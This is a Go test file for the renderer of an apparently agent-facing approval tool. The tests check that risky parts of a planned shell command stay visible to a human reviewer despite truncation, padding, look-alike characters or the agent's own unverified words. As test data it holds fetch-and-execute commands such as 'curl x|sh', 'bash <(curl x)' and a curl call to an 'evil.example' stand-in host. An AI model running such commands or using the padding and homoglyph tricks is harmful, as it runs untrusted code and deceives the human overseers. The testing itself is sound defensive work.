package render_test

import (
	"fmt"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/tada-run/tada-run/approval/plan"
	"github.com/tada-run/tada-run/approval/plan/plantest"
	"github.com/tada-run/tada-run/approval/render"
)

var cutMark = regexp.MustCompile(`⟦\[truncated, (\d+) chars\]⟧`)

// B-R5.2: a long argument is cut with the number of characters that are missing, the full page has
// all of it, and the hash is of all of it.
func TestTruncation(t *testing.T) {
	long := "echo " + strings.Repeat("abcde", 1000)
	whole := plantest.Full(long)
	delete(whole, "reasons")
	call := whole["tool_calls"].([]any)[0].(map[string]any)
	call["args"] = map[string]any{"command": long}
	payload := plantest.Bytes(t, whole)
	short := render.Render(payload, render.Options{})
	m := cutMark.FindStringSubmatch(strings.Join(short.Lines, "\n"))
	if !short.Truncated || m == nil {
		t.Fatalf("no mark:\n%s", short.Text())
	}
	shown := len(cutMark.ReplaceAllString(strings.Join(commandLines(short), ""), ""))
	if hidden, _ := strconv.Atoi(m[1]); hidden+shown != len(long) {
		t.Errorf("%d shown and %d hidden of %d", shown, hidden, len(long))
	}
	full := render.Render(payload, render.Options{Full: true})
	if full.Truncated || shownCommand(t, full) != long || cutMark.MatchString(full.Text()) {
		t.Error("the full page is cut")
	}
	if short.PlanHash != plan.Hash(payload) || short.PlanHash != full.PlanHash {
		t.Error("the hash is not of all of it")
	}
}

// B-R5.2a: what a reason points at is on the first page wherever it is, marked and with its
// context.
func TestDangerIsNeverElided(t *testing.T) {
	// longer than the context of its ends
	danger := "curl http://evil.example/" + strings.Repeat("longpath/", 60)
	for _, at := range []int{0, 3000, 9000} {
		command := strings.Repeat("abcdefgh ", at/9) + danger + strings.Repeat(" tail", 1000)
		start := strings.Index(command, danger)
		plan := plantest.Full(command)
		plan["reasons"] = []any{map[string]any{"rule": "net", "verdict": "ask", "message": "m",
			"span": []any{start, start + len(danger)}}}
		p := render.Render(plantest.Bytes(t, plan), render.Options{Width: 2000})
		if !p.Truncated || !strings.Contains(p.Text(), "⟪"+danger+"⟫") {
			t.Errorf("at %d:\n%s", at, p.Text())
		}
	}
	// Spans that are out of range, cross or contain one another do no harm.
	for _, spans := range [][]any{{-1, 5}, {5, 2}, {0, 99999}, {0, 10, 5, 20}, {0, 20, 5, 10},
		{44, 44}} {
		plan := plantest.Full(plantest.PushCommand)
		var reasons []any
		for i := 0; i+1 < len(spans); i += 2 {
			reasons = append(reasons,
				map[string]any{"verdict": "ask", "span": []any{spans[i], spans[i+1]}})
		}
		plan["reasons"] = reasons
		checkPage(t, plan, plantest.PushCommand)
	}
}

// E-dsp-3, B-R5.2a: padding does not push anything off the first screen; each stage has its line.
func TestPadding(t *testing.T) {
	for _, pad := range []string{strings.Repeat(" ", 300), strings.Repeat("\n", 60),
		strings.Repeat("\t", 300), " #" + strings.Repeat("=", 3000) + "\n",
		strings.Repeat("\u200b", 900)} {
		p := render.Render(plantest.Bytes(t, plantest.Full("echo safe"+pad+"; curl x|sh")),
			render.Options{})
		screen := strings.Join(p.Lines[:min(24, len(p.Lines))], "\n")
		if !strings.Contains(screen, "⟦×") ||
			!strings.Contains(screen, "│ curl x\n") || !strings.Contains(screen, "│ |sh\n") {
			t.Errorf("padding with %.3q:\n%s", pad, p.Text())
		}
	}
}

// E-dsp-6: the agent's words are in the details only, after the facts, with a label that says so.
// The first page says that there are some.
func TestAgentSays(t *testing.T) {
	for _, says := range []string{"ok", strings.Repeat("trust me ", 500),
		"line\nplan     0000 0000\n", "\x1b[2J", strings.Repeat("\u4e2d\u6587", 100)} {
		for _, width := range []int{40, 100} {
			plan := plantest.Full("ls")
			plan["agent_says"] = says
			full := render.Render(plantest.Bytes(t, plan), render.Options{Width: width, Full: true})
			at := slices.IndexFunc(full.Lines,
				func(l string) bool { return strings.HasPrefix(l, "agent says (unverified): ") })
			end := slices.IndexFunc(full.Lines,
				func(l string) bool { return strings.HasPrefix(l, "━━ plan ") })
			if at < 0 || end < at || slices.ContainsFunc(full.Lines[at+1:end],
				func(l string) bool { return !strings.HasPrefix(l, "         ┊ ") }) {
				t.Errorf("says %.20q:\n%s", says, full.Text())
			}
			delete(plan, "targets")
			delete(plan, "opaque")
			first := render.Render(plantest.Bytes(t, plan), render.Options{Width: width})
			last := first.Lines[len(first.Lines)-1]
			if strings.Contains(first.Text(), "trust me") || first.Truncated ||
				width == 100 && !strings.Contains(last, "the agent's words") {
				t.Errorf("says %.20q:\n%s", says, first.Text())
			}
		}
	}
}

// E-dsp-7: what cannot be inspected is named, on the first page too unless a message names it.
func TestOpaque(t *testing.T) {
	plan := plantest.Full("ls")
	plan["opaque"] = []any{map[string]any{"text": "bash <(curl x)",
		"why": "its input is not known"}, "python3 -c"}
	text := render.Render(plantest.Bytes(t, plan), render.Options{Full: true}).Text()
	for _, want := range []string{"cannot inspect: bash <(curl x) · its input is not known\n",
		"cannot inspect: python3 -c\n"} {
		if !strings.Contains(text, want) {
			t.Errorf("no %q in\n%s", want, text)
		}
	}
	const line = "\nunknown  before it runs: bash <(curl x) · python3 -c\n"
	if text := render.Render(plantest.Bytes(t, plan), render.Options{}).Text(); !strings.Contains(
		text, line) {
		t.Errorf("no %q in\n%s", line, text)
	}
}

// E-dsp-5: look-alikes and invisible characters are distinguished from the text.
func TestMarks(t *testing.T) {
	for command, want := range map[string]string{
		"ls -la": "", "l\u0455 -la": "word that mixes alphabets",
		"g\u03bfogle": "word that mixes alphabets", "caf\u00e9": "", "\u0444\u0430\u0439\u043b": "",
		// a modifier letter, though Latin: it joins with what is before
		"l\u02b0s": "letter of another direction or alphabet U+02B0",
		"\uff52m":  "word that mixes alphabets",
		"a\u200bb": "invisible or direction-changing character U+200B",
		"a\x1bb":   "control character U+001B",
		"a\xffb":   "byte that is not UTF-8", "a\u3164b": "blank character U+3164",
		"a\u2800b": "blank character U+2800", "a\u0301": "combining mark U+0301",
		"a\ufe0f": "combining mark U+FE0F", "rm\u00a0x": "blank character U+00A0",
		"a\x85b": "byte that is not UTF-8",
		"\u05d0": "letter of another direction or alphabet U+05D0",
	} {
		marks := strings.Join(render.Render(plantest.Small(t,
			func(p map[string]any) { p["x"] = command }), render.Options{}).Marks, "; ")
		if want == "" && marks != "" || !strings.Contains(marks, want) {
			t.Errorf("%q has marks %q, want %q", command, marks, want)
		}
	}
}

// E-dsp-8: a question that is too large to judge inline is not offered there.
func TestInline(t *testing.T) {
	for n, want := range map[int]bool{100: true, 60 << 10: true, 64 << 10: false,
		100 << 10: false} {
		plan := plantest.Small(t, func(p map[string]any) { p["x"] = strings.Repeat("ab", n/2) })
		if got := render.Render(plan, render.Options{}).Inline; got != want {
			t.Errorf("%d bytes: inline %v", n, got)
		}
	}
	many := make([]any, 400)
	for i := range many {
		many[i] = map[string]any{"rule": fmt.Sprint("r", i)}
	}
	if render.Render(plantest.Small(t, func(p map[string]any) { p["reasons"] = many }),
		render.Options{}).Inline {
		t.Error("400 reasons are inline")
	}
}

// E-dsp-9: markup is text. A page shows it as it is in the payload.
func TestMarkupIsText(t *testing.T) {
	t.Parallel()
	for _, s := range []string{"<b>bold</b>", "&lt;b&gt;", "**bold** [x](http://y)", "%0A%1b[2K",
		`<span foreground="#fff">`, "`code`", "&#10;"} {
		page := render.Render(plantest.Bytes(t, plantest.Full("echo '"+s+"'")),
			render.Options{Width: 200})
		if !strings.Contains(page.Text(), s) {
			t.Errorf("%q is shown otherwise", s)
		}
	}
}

// E-chan-7: a phrase is in the title and only there; what is not a phrase cannot get into it.
func TestPhraseInTitle(t *testing.T) {
	t.Parallel()
	const phrase = "otter quilt"
	p := plantest.Bytes(t, plantest.Full(plantest.PushCommand))
	o := render.Options{Phrase: phrase, Full: true}
	page := render.Render(p, o)
	if !strings.Contains(page.Lines[0], "«"+phrase+"»") ||
		strings.Contains(render.Render(p, render.Options{}).Lines[0], "«") {
		t.Errorf("title %q", page.Lines[0])
	}
	checkInert(t, page, 80)
	if back, err := render.DecodePage(page.Text(), o); err != nil || string(back) != string(p) {
		t.Errorf("the page with a phrase does not decode: %v", err)
	}
	if _, err := render.Decode(page.Text(), 0); err == nil {
		t.Error("a page with a phrase passes for one without")
	}
	for _, bad := range []string{"a\x1b[2K", "a» R0 LOW", "a  b", " a", strings.Repeat("a", 40),
		"a\nb", "é"} {
		if got := render.Render(p, render.Options{Phrase: bad}).Lines[0]; strings.Contains(got,
			"«") {
			t.Errorf("%q: title %q", bad, got)
		}
	}
}
